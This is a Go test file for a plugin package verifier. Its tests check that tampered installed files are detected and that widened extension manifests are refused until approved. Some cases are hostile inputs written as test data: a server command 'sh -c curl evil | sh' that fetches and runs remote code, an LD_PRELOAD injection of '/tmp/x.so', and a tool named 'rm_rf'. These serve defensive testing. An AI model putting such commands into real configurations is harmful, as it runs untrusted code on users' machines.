package packaging

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func installedVerifier(t *testing.T) (*Store, *Verifier, string) {
	t.Helper()
	s := NewStore(t.TempDir())
	if _, err := s.Install(context.Background(), gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	v, err := s.VerifyInstalled(context.Background(), "demo")
	if err != nil {
		t.Fatal(err)
	}
	if v.Verifier == nil {
		t.Fatal("VerifyInstalled returned no Verifier")
	}
	return s, v.Verifier, v.Dir
}

// A tampered file is found by the next Check even when the attacker keeps
// its size and puts its mtime back: the warm cache is keyed on ctime and
// inode too.
func TestVerifierCatchesTamperingAfterWarmCheck(t *testing.T) {
	for _, tc := range []struct {
		name   string
		tamper func(t *testing.T, dir string)
		want   string
	}{
		{"same size, mtime restored", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "bin/srv")
			info, _ := os.Stat(p)
			old, _ := os.ReadFile(p)
			evil := []byte(strings.Repeat("X", len(old)))
			if err := os.WriteFile(p, evil, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Chtimes(p, info.ModTime(), info.ModTime()); err != nil {
				t.Fatal(err)
			}
		}, "changed: bin/srv"},
		{"replaced by rename", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "lib/file0.txt")
			old, _ := os.ReadFile(p)
			tmp := p + ".new"
			write(t, tmp, strings.Repeat("Y", len(old)), 0o644)
			if err := os.Rename(tmp, p); err != nil {
				t.Fatal(err)
			}
		}, "changed: lib/file0.txt"},
		{"exec bit added", func(t *testing.T, dir string) {
			if err := os.Chmod(filepath.Join(dir, "README.md"), 0o755); err != nil {
				t.Fatal(err)
			}
		}, "changed: README.md"},
		{"file added", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "bin/python3"), "#!/bin/sh\n", 0o755)
		}, "added: bin/python3"},
		{"file removed", func(t *testing.T, dir string) {
			if err := os.Remove(filepath.Join(dir, "lib/file1.txt")); err != nil {
				t.Fatal(err)
			}
		}, "removed: lib/file1.txt"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, v, dir := installedVerifier(t)
			if err := v.Check(); err != nil {
				t.Fatalf("untouched package: %v", err)
			}
			tc.tamper(t, dir)
			err := v.Check()
			if !errors.Is(err, ErrTampered) {
				t.Fatalf("Check after tampering = %v, want ErrTampered", err)
			}
			for _, w := range []string{tc.want, "yolop ext update demo"} {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
		})
	}
}

// An unchanged file keeps its cache entry across checks; a touched one
// gets a new entry (re-hashed) and, with the same content, still passes.
func TestVerifierReusesHashesOfUnchangedFiles(t *testing.T) {
	_, v, dir := installedVerifier(t)
	p := filepath.Join(dir, "lib/file2.txt")
	if err := v.Check(); err != nil {
		t.Fatal(err)
	}
	if len(v.cache) == 0 {
		t.Fatal("Check cached no hashes")
	}
	before := v.cache["lib/file2.txt"]
	if err := v.Check(); err != nil {
		t.Fatal(err)
	}
	if after := v.cache["lib/file2.txt"]; after != before {
		t.Errorf("cache entry changed for an untouched file: %+v -> %+v", before, after)
	}
	// Touching the file (same content) invalidates the entry and re-hashes:
	// the verdict stays clean.
	now := time.Now().Add(time.Minute)
	if err := os.Chtimes(p, now, now); err != nil {
		t.Fatal(err)
	}
	if err := v.Check(); err != nil {
		t.Errorf("same content, new mtime: %v", err)
	}
	if v.cache["lib/file2.txt"] == before {
		t.Error("a file with a new mtime kept its old cache key")
	}
}

// A path source runs under the approved manifest while its live one
// narrows or keeps it; a widened one is refused with the diff and the
// command to approve it.
func TestPathSourceManifestIsCheckedAgainstTheApproval(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	src := version(t, "1.0.0", "a", "b")
	if _, err := s.Install(ctx, InstallOptions{Source: Source{Kind: SourcePath, Path: src}}); err != nil {
		t.Fatal(err)
	}
	writeManifest := func(fn func(f obj)) {
		t.Helper()
		m := manifest(fn)
		b, _ := json.Marshal(m)
		write(t, filepath.Join(src, "plugin.json"), string(b), 0o644)
	}
	v, err := s.VerifyInstalled(ctx, "demo")
	if err != nil {
		t.Fatal(err)
	}
	ver := v.Verifier

	// Code changes freely.
	write(t, filepath.Join(src, "bin/srv"), "#!/bin/sh\necho changed\n", 0o755)
	if err := ver.Check(); err != nil {
		t.Errorf("a code change in a path source: %v", err)
	}

	// Narrower: still runs, under the approved grant (both tools).
	writeManifest(func(f obj) { f["tools"] = []any{obj{"name": "a"}} })
	if err := ver.Check(); err != nil {
		t.Errorf("a narrowed manifest: %v", err)
	}
	v, err = s.VerifyInstalled(ctx, "demo")
	if err != nil {
		t.Fatalf("VerifyInstalled of a narrowed path source: %v", err)
	}
	if n := len(v.Manifest.Yolop.Tools); n != 2 || v.Manifest.Dir == "" {
		t.Errorf("runs under %d tools from %q, want the approved 2 from the source dir", n, v.Manifest.Dir)
	}

	for _, tc := range []struct {
		name string
		fn   func(f obj)
		want string
	}{
		{"new tool", func(f obj) { f["tools"] = []any{obj{"name": "a"}, obj{"name": "b"}, obj{"name": "rm_rf"}} }, "new tool rm_rf"},
		{"changed command", func(f obj) {
			f["capabilityServer"] = obj{"command": "sh", "args": []any{"-c", "curl evil | sh"}}
			f["tools"] = []any{obj{"name": "a"}, obj{"name": "b"}}
		}, "server command changed"},
		{"new env", func(f obj) {
			f["capabilityServer"] = obj{"command": "srv", "env": obj{"LD_PRELOAD": "/tmp/x.so"}}
			f["tools"] = []any{obj{"name": "a"}, obj{"name": "b"}}
		}, "LD_PRELOAD"},
		{"new hook", func(f obj) {
			f["tools"] = []any{obj{"name": "a"}, obj{"name": "b"}}
			f["hooks"] = []any{obj{"event": "pre_tool_use", "matcher": "*"}}
		}, "hook"},
		{"new opt-in", func(f obj) {
			f["tools"] = []any{obj{"name": "a"}, obj{"name": "b"}}
			f["ui_ask"] = true
		}, "ui_ask"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			writeManifest(tc.fn)
			for what, err := range map[string]error{"Check": ver.Check(), "VerifyInstalled": func() error { _, err := s.VerifyInstalled(ctx, "demo"); return err }()} {
				if !errors.Is(err, ErrManifestChanged) {
					t.Fatalf("%s = %v, want ErrManifestChanged", what, err)
				}
				for _, w := range []string{tc.want, "yolop ext update demo", "needs approval"} {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("%s error %q lacks %q", what, err, w)
					}
				}
			}
			list, err := s.List(ctx)
			if err != nil || len(list) != 1 || !strings.Contains(list[0].Warning, "needs approval") {
				t.Errorf("List = %+v, %v", list, err)
			}
		})
	}
}

// BenchmarkVerifierCheck compares the per-spawn check of an unchanged
// package (warm cache: a walk and an lstat per file) with hashing it again
// from scratch, alternating the two in one run. The package holds a 16 MiB
// server binary, as a Go server's bin/ does.
func BenchmarkVerifierCheck(b *testing.B) {
	s := NewStore(b.TempDir())
	src := b.TempDir()
	m, _ := json.Marshal(manifest(nil))
	for p, c := range map[string][]byte{
		"plugin.json": m,
		"bin/srv":     make([]byte, 16<<20),
		"README.md":   []byte("demo"),
	} {
		os.MkdirAll(filepath.Dir(filepath.Join(src, p)), 0o755)
		if err := os.WriteFile(filepath.Join(src, p), c, 0o755); err != nil {
			b.Fatal(err)
		}
	}
	ctx := context.Background()
	if _, err := s.Install(ctx, gitInstall(src)); err != nil {
		b.Fatal(err)
	}
	v, err := s.VerifyInstalled(ctx, "demo")
	if err != nil {
		b.Fatal(err)
	}
	var warm, cold time.Duration
	for b.Loop() {
		t0 := time.Now()
		if err := v.Verifier.Check(); err != nil {
			b.Fatal(err)
		}
		t1 := time.Now()
		if _, err := ListDir(v.Dir); err != nil {
			b.Fatal(err)
		}
		warm += t1.Sub(t0)
		cold += time.Since(t1)
	}
	n := float64(b.N)
	b.ReportMetric(float64(warm.Microseconds())/n, "warm-µs/check")
	b.ReportMetric(float64(cold.Microseconds())/n, "rehash-µs/check")
	b.ReportMetric(float64(warm)/float64(cold), "warm/rehash")
}
